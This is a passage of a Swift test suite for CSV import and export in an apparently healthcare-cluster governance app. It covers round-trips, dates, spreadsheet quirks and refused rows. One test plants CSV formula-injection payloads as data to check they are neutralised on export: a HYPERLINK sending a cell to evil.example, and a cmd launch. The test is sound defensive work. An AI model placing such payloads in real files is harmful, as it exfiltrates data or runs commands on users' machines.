import ClusterSyncClient
import ClusterSyncCore
import CSV
import Foundation
import Testing

/// `importCSV` reads back what `exportCSV` writes, for every record type, all rows or none.
@Suite struct ImportTests {
    let dir: TemporaryDirectory
    init() throws { dir = try TemporaryDirectory() }
    func s(_ text: String) -> JSONValue { .string(text) }

    /// A replica holding one record of every type, with multi-line text, sets, a map, notes.
    func populated() throws -> Replica {
        let r = try makeReplica(dir, "a", practice: "prestatyn")
        let risk = try r.create(.risk, edits: [.set("title", s("Locum cover, \"winter\"")), .set("description", s("two\nlines")),
                                               .set("score", RiskScore(likelihood: 4, consequence: 3)!.jsonValue), .add("tags", s("workforce"))])
        _ = try r.create(.action, edits: [.set("title", s("Advertise")), .set("source", s(risk.rawValue)), .add("notes", .object(["date": s("2026-11-01"), "text": s("Drafted")]))])
        let list = try r.create(.list, edits: [.set("title", s("Agenda")), .set("kind", s("agenda"))])
        _ = try r.create(.item, edits: [.set("list", s(list.rawValue)), .set("text", s("Apologies")), .place(after: nil)])
        let meeting = try r.create(.meeting, edits: [.set("title", s("Board")), .set("body", s("stakeholder-board")), .set("date", s("2026-11-20")), .set("agenda", s(list.rawValue))])
        try r.attend(meeting, Attendee(name: "Dr Evans", role: "substitute", practice: "rhyl", agreedBy: "BCUHB"))
        let decision = try r.create(.decision, edits: [.set("title", s("Fund it")), .set("meeting", s(meeting.rawValue)), .set("amount", s("350.50"))])
        try r.vote(decision, member: "Dr Evans", "for")
        // A vote withdrawn is no vote: not exported, and not made again by an import.
        try r.vote(decision, member: "Dr Jones", "against")
        try r.withdrawVote(decision, member: "Dr Jones")
        _ = try r.create(.declaration, edits: [.set("member", s("Dr Evans")), .set("nature", s("pecuniary")), .set("date_declared", s("2026-01-01")),
                                               .set("dispensation", s("Granted by the chair, 2026-01-05, for the pharmacy pilot"))])
        _ = try r.create(.terms, edits: [.set("title", s("ToR")), .set("quorum", QuorumRule.proportion(numerator: 1, denominator: 2).jsonValue), .add("quorum_roles", s("member")),
                                         .set("proxies", s("None: a member sends a named substitute instead"))])
        let plan = try r.create(.plan, edits: [.set("title", s("Plan 2025-28")), .add("risks", s(risk.rawValue))])
        _ = try r.create(.contribution, edits: [.set("plan", s(plan.rawValue)), .set("contributor", s("prestatyn")), .set("year", s("2026-27"))])
        return r
    }

    @Test(arguments: RecordType.allCases)
    func reimportingAnExportChangesNothing(_ type: RecordType) throws {
        let r = try populated()
        let csv = try r.exportCSV(type, today: fixedToday)
        let before = try r.allChanges()
        let outcome = try r.importCSV(csv, type: type)
        #expect(outcome.problems == [] && outcome.warnings == [], "\(outcome)")
        #expect(outcome.created == 0 && outcome.updated == 0 && outcome.unchanged == 1, "\(outcome)")
        #expect(try r.allChanges() == before)
    }

    @Test(arguments: RecordType.allCases)
    func anExportImportedIntoAnotherReplicaCreatesTheSameFields(_ type: RecordType) throws {
        let r = try populated()
        let csv = try r.exportCSV(type, today: fixedToday)
        // A row without its id creates; links must name records the target holds, so the
        // target is a copy of the source's other registers.
        let copy = try makeReplica(dir, "b", practice: "prestatyn")
        try copy.apply(try r.allChanges().filter { $0.record.type != type }, origin: .peer)
        var lines = csv.split(separator: "\n", omittingEmptySubsequences: false).map(String.init)
        let id = try #require(try r.records(type).first?.id.rawValue)
        lines = lines.map { $0.hasPrefix(id) ? String($0.dropFirst(id.count)) : $0 }
        let outcome = try copy.importCSV(lines.joined(separator: "\n"), type: type)
        #expect(outcome.problems == [] && outcome.created == 1, "\(outcome)")
        let made = try #require(try copy.records(type).first)
        let original = try #require(try r.records(type).first)
        for spec in type.schema.fields where spec.kind != .position {
            // Fields the original has; a created record also gets add's defaults (a status).
            guard original.writes.keys.contains(where: { $0 == spec.name || $0.hasPrefix(spec.name + ":") }) else { continue }
            #expect(made.members(spec.name) == original.members(spec.name), "\(spec.name)")
            #expect(made.mapValues(spec.name) == original.mapValues(spec.name), "\(spec.name)")
            if spec.kind.cardinality == .register { #expect(made.value(spec.name) == original.value(spec.name), "\(spec.name)") }
        }
    }

    /// A record starts the same way whichever front end adds it: `add` (the CLI's and the web
    /// app's) and an import both give a new declaration today's date and a meeting its status,
    /// and refuse a record without the field it needs. Before, the CLI alone dated
    /// declarations, so one imported or added in the app was never in force.
    @Test func addAndImportStartARecordTheSameWay() throws {
        let r = try makeReplica(dir, "a", practice: "prestatyn")
        let added = try r.add(.declaration, edits: [.set("member", s("Dr A Evans"))])
        // A register's row is dated by the sheet, never the day of the import (the forty-eighth
        // session's import audit: an undated row counted as declared that day).
        let undated = try r.importCSV("id,member\n,Dr B Jones\n", type: .declaration)
        #expect(undated.problems.map(\.description) == ["line 2, column date_declared: a declaration added from a spreadsheet needs its date_declared "
            + "(it is not dated the day of the import); where the sheet gives a day once for several rows, give it on each"], "\(undated)")
        let outcome = try r.importCSV("id,member,Date Declared\n,Dr B Jones,\(r.today.description)\n", type: .declaration)
        #expect(outcome.problems == [] && outcome.created == 1, "\(outcome)")
        let imported = try #require(try r.records(.declaration).first { $0.string("member") == "Dr B Jones" })
        for view in [try #require(try r.record(added)), imported] {
            #expect(view.string("date_declared") == r.today.description)
            #expect(view.derived(today: r.today)["in_force"] == .bool(true))
        }
        let meeting = try #require(try r.record(try r.add(.meeting, edits: [.set("title", s("Board"))])))
        #expect(meeting.string("status") == "scheduled")
        // A decision is dated by its meeting, by add and by import alike; else by add the day it
        // is recorded, and by import not at all: a row without either is refused.
        let held = try r.add(.meeting, edits: [.set("title", s("Collaborative")), .set("date", s("2026-11-20"))])
        let taken = try #require(try r.record(try r.add(.decision, edits: [.set("title", s("Fund it")), .set("meeting", s(held.rawValue))])))
        #expect(taken.string("date") == "2026-11-20")
        let refusedUndated = try r.importCSV("id,title,meeting\n,Imported,\(held.rawValue)\n,Undated,\n", type: .decision)
        #expect(refusedUndated.problems.map(\.description) == ["line 3, column date: a decision added from a spreadsheet needs its date "
            + "(it is not dated the day of the import); where the sheet gives a day once for several rows, give it on each"], "\(refusedUndated)")
        #expect(refusedUndated.created == 0 && refusedUndated.rows.isEmpty, "a refused file reports nothing made")
        #expect(try r.importCSV("id,title,meeting\n,Imported,\(held.rawValue)\n", type: .decision).created == 1)
        let decisions = try r.records(.decision)
        #expect(decisions.first { $0.string("title") == "Imported" }?.string("date") == "2026-11-20")
        #expect(!decisions.contains { $0.string("title") == "Undated" })
        // Linked to its meeting later (minutes typed up after the day): dated by the meeting, unless
        // a date is given with the link.
        let typedUp = try r.add(.decision, edits: [.set("title", s("Typed up later"))])
        #expect(try r.record(typedUp)?.string("date") == r.today.description)
        try r.edit(typedUp, .set("meeting", s(held.rawValue)))
        #expect(try r.record(typedUp)?.string("date") == "2026-11-20")
        try r.edit(typedUp, .set("meeting", s(held.rawValue)), .set("date", s("2026-11-21")))
        #expect(try r.record(typedUp)?.string("date") == "2026-11-21")
        // Rescheduling the meeting moves the decisions it dates, and only those: "Fund it" and
        // "Imported" were dated by it; "Typed up later" has a day of its own; a deleted one stays.
        let deleted = try r.add(.decision, private: true, edits: [.set("title", s("Withdrawn")), .set("meeting", s(held.rawValue))])
        try r.edit(deleted, .delete)
        let moved = try r.edit(held, .set("date", s("2026-11-27")))
        func day(_ title: String) throws -> String? { try r.records(.decision).first { $0.string("title") == title }?.string("date") }
        #expect(try day("Fund it") == "2026-11-27" && day("Imported") == "2026-11-27")
        #expect(try day("Typed up later") == "2026-11-21" && day("Withdrawn") == "2026-11-20")
        #expect(moved.count == 3, "the meeting's date and two decisions': \(moved.map(\.record))")
        // And by import, as by edit.
        #expect(try r.importCSV("id,date\n\(held.rawValue),2026-11-26\n", type: .meeting).updated == 1)
        #expect(try day("Fund it") == "2026-11-26" && day("Imported") == "2026-11-26" && day("Typed up later") == "2026-11-21")

        let error = #expect(throws: ClusterSyncError.self) { try r.add(.risk, edits: [.set("owner", s("Practice manager"))]) }
        #expect(error?.code == .invalidValue && error?.field == "title" && error?.message == "a new risk needs a title")
        let refused = try r.importCSV("id,owner\n,Practice manager\n", type: .risk)
        #expect(refused.problems.map(\.message) == ["a new risk needs a title"], "\(refused)")
        #expect(try r.records(.risk).isEmpty)
    }

    /// A shared record may come from another practice: a value a spreadsheet would run as a
    /// formula (`=`, `+`, `-`, `@` first) is exported behind a `'`, and imports back as it was.
    @Test func formulasAreExportedAsTextAndImportBackAsTheyWere() throws {
        let r = try makeReplica(dir, "a", practice: "prestatyn")
        let planted = [#"=HYPERLINK("http://evil.example/?x="&A2,"Click")"#, "+cmd|' /c calc'!A0", "-2+3", "@SUM(1+1)"]
        for title in planted { _ = try r.create(.risk, edits: [.set("title", s(title)), .set("owner", s("=1+1"))]) }
        let csv = try r.exportCSV(.risk, today: fixedToday)
        let rows = try CSVRows(csv)
        let title = try #require(rows.header.firstIndex(of: "title")), owner = try #require(rows.header.firstIndex(of: "owner"))
        #expect(Set(rows.body.map { $0[title] }) == Set(planted.map { "'" + $0 }), "\(csv)")
        #expect(rows.body.allSatisfy { $0[owner] == "'=1+1" })
        for row in rows.body {
            #expect(!row.contains { ["=", "+", "-", "@"].contains($0.first) }, "no cell starts a formula: \(row)")
        }
        let before = try r.allChanges()
        let outcome = try r.importCSV(csv, type: .risk)
        #expect(outcome.problems == [] && outcome.unchanged == planted.count, "\(outcome)")
        #expect(try r.allChanges() == before, "the guard comes off on import")
    }

    @Test func anEditedExportUpdatesByIDAndANewRowCreates() throws {
        let r = try populated()
        let risk = try #require(try r.records(.risk).first)
        var csv = try r.exportCSV(.risk, today: fixedToday)
        csv = csv.replacingOccurrences(of: ",4x3,", with: ",5x3,").replacingOccurrences(of: "workforce", with: "workforce; estates")
        csv += ",,New risk from the spreadsheet,,,,,,,,,,,,,,,,,,,,,,\n"
        // A check says, row by row, what would change, and writes nothing (the first row spans
        // two lines: its description has a line break).
        let checked = try r.importCSV(csv, type: .risk, dryRun: true)
        #expect(checked.rows.count == 2 && checked.rows[0] == Replica.RowChange(line: 2, record: risk.id, created: false, fields: ["score", "tags"]),
                "\(checked.rows)")
        #expect(checked.rows[1].line == 4 && checked.rows[1].created && checked.rows[1].fields.first == "title", "\(checked.rows)")
        #expect(checked.rows[0].text == "line 2: update \(risk.id) (score, tags)")
        #expect(try r.records(.risk).count == 1)
        let outcome = try r.importCSV(csv, type: .risk)
        #expect(outcome.problems == [] && outcome.updated == 1 && outcome.created == 1, "\(outcome)")
        let updated = try #require(try r.record(risk.id))
        #expect(updated.value("score") == RiskScore(likelihood: 5, consequence: 3)!.jsonValue)
        #expect(updated.members("tags") == [s("estates"), s("workforce")])
        #expect(updated.string("description") == "two\nlines")
        #expect(try r.records(.risk).count == 2)
    }

    /// A rescheduled meeting leaves alone a decision dated in the same edit, and one whose date
    /// is in conflict (moving it would settle the conflict, or need the lead).
    @Test func aRescheduledMeetingLeavesDecisionsDatedOtherwise() throws {
        let a = try makeReplica(dir, "ma", practice: "prestatyn")
        let b = try makeReplica(dir, "mb", practice: "rhyl")
        let meeting = try a.add(.meeting, edits: [.set("title", s("Board")), .set("date", s("2026-11-20"))])
        let given = try a.add(.decision, edits: [.set("title", s("Given a day")), .set("meeting", s(meeting.rawValue))])
        let contested = try a.add(.decision, edits: [.set("title", s("Contested")), .set("meeting", s(meeting.rawValue))])
        _ = try a.merge(with: b)
        try b.edit(contested, .set("date", s("2026-11-21")))
        try a.edit(contested, .set("date", s("2026-11-20")))
        _ = try a.merge(with: b)
        #expect(try a.record(contested)?.conflicts.map(\.field) == ["date"])
        #expect(try a.record(contested)?.string("date") == "2026-11-20", "shown: the meeting's old day")
        try a.edit([(meeting, .set("date", s("2026-11-27"))), (given, .set("date", s("2026-11-19")))])
        #expect(try a.record(given)?.string("date") == "2026-11-19")
        #expect(try a.record(contested)?.conflicts.map(\.field) == ["date"])
    }

    /// An export imported back unchanged changes nothing, conflicts included: the cell shows one
    /// side of a conflict, and writing it would settle the conflict unseen (web audit). A value
    /// typed over a conflict settles it, as `set` does.
    @Test func anUnchangedExportDoesNotSettleAConflict() throws {
        let a = try makeReplica(dir, "ca", practice: "prestatyn")
        let b = try makeReplica(dir, "cb", practice: "prestatyn")
        let risk = try a.create(.risk, edits: [.set("title", s("Locum gap")), .set("description", s("Ours"))])
        _ = try a.merge(with: b)
        try b.edit(risk, .set("description", s("Theirs")))
        try a.edit(risk, .set("description", s("Ours, again")))
        _ = try a.merge(with: b)
        #expect(try a.record(risk)?.conflicts.map(\.field) == ["description"])
        let outcome = try a.importCSV(try a.exportCSV(.risk, today: fixedToday), type: .risk)
        #expect(outcome.problems == [] && outcome.updated == 0 && outcome.unchanged == 1 && outcome.changes == 0, "\(outcome)")
        #expect(try a.record(risk)?.conflicts.map(\.field) == ["description"])
        let typed = try a.exportCSV(.risk, today: fixedToday).replacingOccurrences(of: a.record(risk)!.string("description")!, with: "Agreed wording")
        #expect(try a.importCSV(typed, type: .risk).updated == 1)
        #expect(try a.record(risk)?.conflicts.isEmpty == true && a.record(risk)?.string("description") == "Agreed wording")
    }

    @Test func aSpreadsheetWithOneBadRowImportsNothing() throws {
        let r = try populated()
        let before = try r.allChanges()
        let csv = """
            id,title,category,review_date,linked_actions
            ,Good risk,workforce,2027-01-01,
            ,"Bad risk
            over two lines",weather,31/02/2026,ACT-4F8R2M6W0Z
            ,Another good risk,estates,,

            """
        let outcome = try r.importCSV(csv, type: .risk)
        // Every bad cell of the row is named; links are checked once the row's values are right.
        #expect(outcome.problems.map(\.line) == [3, 3], "\(outcome.problems)")
        #expect(outcome.problems.map(\.column) == ["category", "review_date"])
        let link = try r.importCSV("id,title,linked_actions\n,Good,\n,Linked,ACT-4F8R2M6W0Z\n", type: .risk)
        #expect(link.problems.map(\.line) == [3] && link.problems.map(\.column) == ["linked_actions"], "\(link.problems)")
        #expect(try r.allChanges() == before)
        // A dry run of a good file writes nothing either.
        let good = "id,title\n,Good risk\n"
        let dry = try r.importCSV(good, type: .risk, dryRun: true)
        #expect(dry.created == 1 && dry.problems.isEmpty)
        #expect(try r.allChanges() == before)
        // Unknown columns, unterminated quotes and ids of records not held are refused.
        #expect(try r.importCSV("id,colour\n,red\n", type: .risk).problems.map(\.column) == ["colour"])
        #expect(try r.importCSV("id,title\n,\"open\n", type: .risk).problems.map(\.line) == [2])
        // Named at the line the cell opens, not "line 1"; a quote inside a cell that does not
        // start with one is its text, however many there are.
        let unterminated = try r.importCSV("title,controls\nBoiler,Replace 5\" pipe\nLift,\"Call the engineer\nFlood,none\n", type: .risk)
        #expect(unterminated.problems.map(\.description) == ["line 3: a cell starts with \" and has no closing \": the rest of the file would be read "
            + "into it. Close the quotes, or put the whole cell in quotes and double the quotes inside it"])
        #expect(try r.allChanges() == before)
        #expect(try r.importCSV("id,title\nRSK-7K3M9Q2X1A,x\n", type: .risk).problems.map(\.column) == ["id"])
        // Named where the cell opens when a `"` further down closes it and text follows.
        let swapped = try r.importCSV("title,controls\nLift,\"Call the engineer\nBoiler,Replace 5\" pipe\n", type: .risk)
        #expect(swapped.problems.map(\.line) == [2], "\(swapped.problems)")
        #expect(try r.allChanges() == before)
        let inches = try r.importCSV("title,controls\nBoiler,Replace 5\" pipe\nLift,ok\n", type: .risk)
        #expect(inches.problems == [] && inches.created == 2, "\(inches)")
        #expect(try r.records(.risk).first { $0.string("title") == "Boiler" }?.string("controls") == "Replace 5\" pipe")
    }

    /// What a spreadsheet in Wales does to an export it saves: dates as DD/MM/YYYY, a byte-order
    /// mark, CRLF line ends, empty columns after the last. All of it reads back.
    @Test func anExportSavedByASpreadsheetInWalesImports() throws {
        let r = try populated()
        let csv = "\u{FEFF}id,title,review_date,,\r\n,Locum cover,15/12/2026,,\r\n,Estates,1/3/27,,\r\n"
        let outcome = try r.importCSV(csv, type: .risk)
        #expect(outcome.problems == [] && outcome.created == 2, "\(outcome)")
        let dates = try r.records(.risk).filter { ["Locum cover", "Estates"].contains($0.string("title")) }.map { $0.string("review_date") }
        #expect(Set(dates) == ["2026-12-15", "2027-03-01"])
    }

    /// What the import audit found Windows tools and spreadsheets do to a file: every line end
    /// made CR LF, inside quoted cells too (a cell reads as the replica stores it, LF, so nothing
    /// changes); header names with spaces or in capitals; a row of blanks; a CSV export starts
    /// with a byte-order mark, so Excel reads it as UTF-8.
    @Test func whatWindowsAndSpreadsheetsDoToAFileChangesNothing() throws {
        let r = try populated()
        let exported = try r.exportCSV(.risk, today: fixedToday)
        #expect(exported.hasPrefix("\u{FEFF}id,practice,"))
        let windows = exported.replacingOccurrences(of: "\n", with: "\r\n")
        #expect(windows.contains("two\r\nlines"), "the multi-line description is quoted in the file")
        var outcome = try r.importCSV(windows, type: .risk)
        #expect(outcome.problems == [] && outcome.updated == 0 && outcome.unchanged == 1 && outcome.changes == 0, "\(outcome)")
        let action = try r.exportCSV(.action, today: fixedToday).replacingOccurrences(of: "\n", with: "\r\n")
        outcome = try r.importCSV(action, type: .action)
        #expect(outcome.problems == [] && outcome.changes == 0, "a note is not added again: \(outcome)")

        let csv = "ID, Title ,CATEGORY,Status\r\n,Phones,workforce ,Open\r\n , , , \r\n"
        outcome = try r.importCSV(csv, type: .risk)
        #expect(outcome.problems == [] && outcome.created == 1, "\(outcome)")
        let phones = try #require(try r.records(.risk).first { $0.string("title") == "Phones" })
        #expect(phones.string("category") == "workforce" && phones.string("status") == "open")
    }

    /// A practice manager's own sheets (the forty-fourth session's import audit): saved with
    /// semicolons (a locale whose decimal mark is a comma), headings as people write them, no id
    /// column, cells padded with spaces, a row copied twice, an old completed action and
    /// amounts written with commas. Nothing is multiplied, invented or silently doubled.
    @Test func aPracticeManagersOwnSheetImportsAsWritten() throws {
        let r = try makeReplica(dir, "own", practice: "prestatyn")
        let risks = "\u{FEFF}Risk Title;Risk Owner;Review Date;Score\r\nPhones down;  Dr Siân Evans  ;01/04/2027;3x4\r\nPhones down;IG lead;1/4/27;2x2\r\n"
        let outcome = try r.importCSV(risks, type: .risk)
        #expect(outcome.problems == [] && outcome.created == 2, "\(outcome)")
        // Named as the sheet's header row writes the column, so it can be found there.
        #expect(outcome.warnings.map(\.description) == ["line 3, column Risk Title: line 2 adds a risk titled \"Phones down\" too; this row adds another"])
        let owners = try r.records(.risk).compactMap { $0.string("owner") }.sorted()
        #expect(owners == ["Dr Siân Evans", "IG lead"])
        #expect(try r.records(.risk).allSatisfy { $0.string("review_date") == "2027-04-01" })

        let actions = "Title,Status,Due-Date,Notes\nUpdate the website,complete,1/4/26,20/11/2026 Discussed at the board\n"
        #expect(try r.importCSV(actions, type: .action).problems == [])
        let done = try #require(try r.records(.action).first)
        #expect(done.string("status") == "complete" && done.value("completed_date") == nil, "no completion day is made up")
        #expect(done.writes["notes"]?.first?.value == .object(["date": s("2026-11-20"), "text": s("Discussed at the board")]))

        let decisions = "title;amount;date\nFund the pilot;\"1,500.50\";12/03/2025\nSmall grant;1500.5;12/03/2025\n"
        #expect(try r.importCSV(decisions, type: .decision).problems == [])
        #expect(Set(try r.records(.decision).compactMap { $0.string("amount") }) == ["1500.50"])
        let comma = try r.importCSV("title;amount;date\nLocum fund;1500,50;12/03/2025\n", type: .decision)
        #expect(comma.problems.map(\.column) == ["amount"] && comma.problems.first?.message.contains("1500,50") == true, "\(comma.problems)")
        #expect(try r.records(.decision).count == 2, "a refused file adds nothing")
    }

    /// A register scoring its risks in two columns, likelihood and impact, as most do (the
    /// forty-eighth session: such a sheet was refused, its scores' columns unknown). Each pair
    /// makes the score; a half alone takes the other from the record, or is refused on a new
    /// row; a row scored both ways is refused; problems name the columns as the sheet does.
    @Test func aSheetScoringRisksByLikelihoodAndImpactImports() throws {
        let r = try makeReplica(dir, "matrix", practice: "rhyl")
        let sheet = """
            Title,Likelihood,Impact,Target Likelihood,Target Impact
            Phones down,3 - Possible,Major (4),unlikely,2
            Estates,almost certain,2,,
            """
        let outcome = try r.importCSV(sheet, type: .risk)
        #expect(outcome.problems == [] && outcome.created == 2, "\(outcome)")
        func risk(_ title: String) throws -> RecordView { try #require(try r.records(.risk).first { $0.string("title") == title }) }
        #expect(try risk("Phones down").value("score") == RiskScore(likelihood: 3, consequence: 4)!.jsonValue)
        #expect(try risk("Phones down").value("target_score") == RiskScore(likelihood: 2, consequence: 2)!.jsonValue)
        #expect(try risk("Estates").value("score") == RiskScore(likelihood: 5, consequence: 2)!.jsonValue)
        #expect(try risk("Estates").value("initial_score") == RiskScore(likelihood: 5, consequence: 2)!.jsonValue, "a new risk's first score is its initial one")

        let id = try risk("Phones down").id
        #expect(try r.importCSV("id,likelihood\n\(id),likely\n", type: .risk).problems == [])
        #expect(try risk("Phones down").value("score") == RiskScore(likelihood: 4, consequence: 4)!.jsonValue, "the consequence is the record's")

        let before = try r.allChanges()
        let both = try r.importCSV("id,Score,Likelihood\n\(id),2x2,3\n", type: .risk)
        #expect(both.problems.map(\.description) == ["line 2, column Score: the row gives score and likelihood or consequence too; keep one of them"])
        let wrong = try r.importCSV("Title,Review Date,Likelihood,Impact,Target Likelihood\nNew,31/02/2027,7,9,2\n", type: .risk)
        #expect(wrong.problems.map(\.column) == ["Likelihood", "Impact", "Target Likelihood", "Review Date"], "\(wrong.problems)")
        #expect(wrong.problems[1].message.contains("5 catastrophic") && wrong.problems[2].message.contains("target_consequence is needed too"))
        #expect(try r.allChanges() == before, "a refused file changes nothing")
    }

    /// A tracker's progress log of a thousand notes in one cell comes in whole (its import had
    /// grown with the square of the notes: 800 took about a minute); one more than a field holds
    /// is refused once, for the cell, with the counts.
    @Test func aCellOfAThousandNotesImportsAndOneMoreIsRefusedOnce() throws {
        let r = try makeReplica(dir, "log", practice: "rhyl")
        func cell(_ range: Range<Int>) -> String {
            "\"" + range.map { "2025-01-\(String(format: "%02d", $0 % 28 + 1)) call \($0)" }.joined(separator: "\n") + "\""
        }
        let full = FieldGrowth.maxLiveWrites
        #expect(try r.importCSV("Title,Notes\nPhones,\(cell(0..<full))\n", type: .action).problems == [])
        let action = try #require(try r.records(.action).first)
        #expect(action.writes["notes"]?.count == full)

        let before = try r.allChanges()
        let over = try r.importCSV("id,Notes\n\(action.id),\(cell(0..<full + 1))\n", type: .action)
        #expect(over.problems.map(\.description) == ["line 2, column Notes: the cell adds 1 note to the \(full) held here; notes holds at most \(full): "
            + "keep the older ones in the spreadsheet, or remove some first"])
        let second = try r.importCSV("Title,Notes\nRota,\(cell(0..<full + 2))\n", type: .action)
        #expect(second.problems.count == 1 && second.problems[0].message.hasPrefix("the cell adds \(full + 2) notes to the 0 held here"), "\(second.problems.prefix(3))")
        #expect(try r.allChanges() == before, "a refused file changes nothing")
    }

    /// One member declares several interests: only the same interest again is warned of
    /// (the scale audit: every member's second declaration was, as "titled" by the member).
    @Test func aMembersSecondInterestIsNoDuplicate() throws {
        let r = try makeReplica(dir, "doi", practice: "rhyl")
        let first = "Member,Organisation,Description,Date Declared\nDr Siân Evans,Rhyl Pharmacy,Director,01/04/2025\n"
        #expect(try r.importCSV(first, type: .declaration).warnings == [])
        let held = try #require(try r.records(.declaration).first?.id)
        let more = """
            Member,Organisation,Description,Date Declared
            dr sian evans,Rhyl Pharmacy,Director,01/04/2025
            Dr Siân Evans,Prestatyn Dental,Partner's practice,01/04/2025
            Dr Siân Evans,Prestatyn Dental,Partner's practice,01/04/2025
            """
        let outcome = try r.importCSV(more, type: .declaration)
        #expect(outcome.problems == [] && outcome.created == 3, "\(outcome)")
        #expect(outcome.warnings.map(\.description) == [
            "line 2, column Member: a declaration by \"dr sian evans\" of the same interest is already here (\(held)); this row adds another",
            "line 4, column Member: line 3 adds a declaration by \"Dr Siân Evans\" of the same interest too; this row adds another"])
        // A sheet that gives only the member and the day finds by the member.
        let bare = try r.importCSV("Member,Date Declared\nDr Siân Evans,01/04/2026\n", type: .declaration, dryRun: true)
        #expect(bare.warnings.count == 1 && bare.warnings[0].message.hasPrefix("a declaration by \"Dr Siân Evans\" of the same interest is already here (DOI-"),
                "\(bare.warnings)")
    }

    /// Items come in after one another, each after the last of its list as the rows above left it.
    @Test func itemsOfSeveralListsImportInTheirRowsOrder() throws {
        let r = try makeReplica(dir, "items", practice: "rhyl")
        let a = try r.create(.list, edits: [.set("title", s("Agenda")), .set("kind", s("agenda"))])
        let b = try r.create(.list, edits: [.set("title", s("Priorities")), .set("kind", s("priorities"))])
        _ = try r.create(.item, edits: [.set("list", s(a.rawValue)), .set("text", s("Held before")), .place(after: nil)])
        let rows = (1...4).map { "\($0 % 2 == 0 ? b : a),Item \($0)" }.joined(separator: "\n")
        #expect(try r.importCSV("list,text\n\(rows)\n", type: .item).problems == [])
        #expect(try r.items(of: a).compactMap { $0.string("text") } == ["Held before", "Item 1", "Item 3"])
        #expect(try r.items(of: b).compactMap { $0.string("text") } == ["Item 2", "Item 4"])
    }

    /// What the forty-eighth session's import audit (a practice manager's own trackers and logs)
    /// found read otherwise than written, each now read as written or refused with the line.
    @Test func aPracticeManagersTrackersReadAsWritten() throws {
        let r = try makeReplica(dir, "trackers", practice: "rhyl")
        // A tracker marking completion by its date alone: the action is complete, not overdue.
        let done = "Title,Owner,Due Date,Completed Date\nFlu clinic rota,Gwenllïan Hughes,15/09/2025,10/09/2025\n"
        #expect(try r.importCSV(done, type: .action).problems == [])
        let rota = try #require(try r.records(.action).first)
        #expect(rota.string("status") == "complete" && rota.string("completed_date") == "2025-09-10", "\(rota.writes)")
        let added = try #require(try r.record(try r.add(.action, edits: [.set("title", s("Rota")), .set("completed_date", s("2025-09-10"))])))
        #expect(added.string("status") == "complete", "add starts it the same way")

        // Progress notes dated as people date them, each a note of its own.
        let notes = "Title,Notes\nRecruit a pharmacist,\"01/10/2025 Advert placed\n20/10/2025: Interviews arranged\n3 Nov 2025 - Offer made\n2025-11-20: Started\"\n"
        #expect(try r.importCSV(notes, type: .action).problems == [])
        let recruit = try #require(try r.records(.action).first { $0.string("title") == "Recruit a pharmacist" })
        #expect((recruit.writes["notes"] ?? []).map(\.value).sorted { $0.canonicalText < $1.canonicalText } == [
            .object(["date": s("2025-10-01"), "text": s("Advert placed")]), .object(["date": s("2025-10-20"), "text": s("Interviews arranged")]),
            .object(["date": s("2025-11-03"), "text": s("Offer made")]), .object(["date": s("2025-11-20"), "text": s("Started")]),
        ])

        let before = try r.allChanges()
        // A quoted word opening a cell, then more text: refused at its line, not read to the file's end.
        let runOn = "Title,Owner,Controls\nGP recruitment,Siân Evans,\"Grow your own\" GPST scheme\nEstates,Dr Llŷr Jones,LHB survey\n"
        let refused = try r.importCSV(runOn, type: .risk)
        #expect(refused.problems.map(\.line) == [2] && refused.problems.first?.message.contains("goes on after its closing") == true, "\(refused.problems)")
        // A sheet's own numbering in an id column says what the column is read as.
        let numbered = try r.importCSV("Risk ID,Title\nR01,Phones down\n", type: .risk)
        #expect(numbered.problems.map(\.column) == ["Risk ID"] && numbered.problems.first?.message.contains("read as ClusterSync's own id") == true, "\(numbered.problems)")
        #expect(try r.allChanges() == before)

        // Empty rows above the header are passed over, and lines still count from the file's first.
        let above = try r.importCSV(",,\n\nTitle,Financial Implications,Date\nFund the pilot,Yes ,12/03/2025\nSmall grant,perhaps,12/03/2025\n", type: .decision)
        #expect(above.problems.map(\.description) == ["line 5, column Financial Implications: financial_implications must be yes or no; got perhaps"], "\(above.problems)")
        let fixed = try r.importCSV(",,\n\nTitle,Financial Implications,Date\nFund the pilot,Yes ,12/03/2025\n", type: .decision)
        #expect(fixed.problems == [] && fixed.created == 1, "a yes with a space after it is yes: \(fixed.problems)")

        // The header found below empty rows decides the separator too, and a heading wrapped in
        // its cell counts its lines: rows are named at the line they start on (commit review).
        let semicolons = try r.importCSV("\nTitle;Controls;Likelihood;Impact\n\"Locum; costs\";\"a; b\";4;4\n", type: .risk)
        #expect(semicolons.problems == [] && semicolons.created == 1, "\(semicolons.problems)")
        let wrapped = try r.importCSV("Title,\"Review\nDate\"\nA,01/02/2027\nB,31/02/2027\n", type: .risk)
        #expect(wrapped.problems.map(\.line) == [4] && wrapped.problems.map(\.column) == ["Review Date"], "\(wrapped.problems)")
        // A decision whose meeting has no date either is not dated the day of the import.
        let undatedMeeting = try r.add(.meeting, edits: [.set("title", s("Collaborative board"))])
        let noDay = try r.importCSV("Title,Meeting\nFund the pilot,\(undatedMeeting)\n", type: .decision)
        #expect(noDay.problems.map(\.column) == ["date"], "\(noDay.problems)")

        // A column ClusterSync works out, in a sheet of the practice's own, is said to be passed over.
        let register = "Member,Date Declared,In Force\nDr Llŷr Jones,01/04/2025,No\n"
        let declared = try r.importCSV(register, type: .declaration)
        #expect(declared.problems == [] && declared.warnings.map(\.description)
            == ["line 1, column In Force: in_force is worked out by ClusterSync from the record, so its cells were not read"], "\(declared)")

        // A row made private by its practice cell says so, in a check and in the import alike.
        let privateRow = "Title,Practice\nPhones down,Rhyl\n"
        for dryRun in [true, false] {
            let outcome = try r.importCSV(privateRow, type: .risk, dryRun: dryRun)
            #expect(outcome.problems == [] && outcome.warnings.map(\.description) == ["line 2, column Practice: this row adds a risk private to rhyl, "
                + "which other practices will not see (its practice cell names this practice); leave practice empty to share it with the cluster"], "\(outcome)")
        }
        #expect(try r.records(.risk).first { $0.string("title") == "Phones down" }?.scope.practice == "rhyl")
        // A row updating a record cannot change its sharing: a practice cell saying otherwise is
        // refused, naming it (it was passed over, the row counted unchanged); as the record
        // stands, in any capitals, or empty, it is read and changes nothing.
        let phones = try #require(try r.records(.risk).first { $0.string("title") == "Phones down" })
        let lift = try r.add(.risk, edits: [.set("title", s("Lift out of order"))])
        let unsharing = try r.importCSV("ID,Practice\n\(lift),rhyl\n", type: .risk)
        #expect(unsharing.problems.map(\.description) == ["line 2, column Practice: \(lift) is shared with the cluster, and a record's sharing "
            + "is set when it is made: leave practice empty (to keep such a record private, add it as a new row naming rhyl)"], "\(unsharing)")
